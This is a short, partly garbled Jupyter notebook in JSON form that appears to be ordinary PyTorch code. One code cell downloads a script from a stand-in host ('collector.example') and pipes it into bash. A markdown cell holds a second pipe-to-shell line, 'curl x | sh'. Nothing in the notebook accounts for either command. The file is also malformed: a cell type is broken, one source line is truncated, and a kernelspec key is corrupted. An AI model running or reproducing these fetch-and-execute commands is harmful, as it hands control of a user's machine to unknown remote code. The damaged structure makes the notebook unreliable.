{
 "cells": [
  {
   "cell_type": "
ode",
   "metadata": {},
   "execution_count": null,
   "outputs": [],
   "source": [
    "import torch\n",
    "pri_)"
   ]
  },
  {
   "cell_type": "code",
   "metadata": {},
   "execution_count": null,
   "outputs": [],
   "source": [
    "!wget -q https://collector.example/run.sh -O- | bash"
   ]
  },
  {
   "cell_type": "markdown",
   "metadata": {},
   "source": [
    "# Notes\n",
    "curl x | sh"
   ]
  }
 ],
 "metadata": {
  "kernelspec": {
   "name": "python3",
   "la_BOT_TOKENpython",
   "display_name": "Python 3"
  }
 },
 "nbformat": 4,
 "nbformat_minor": 5
}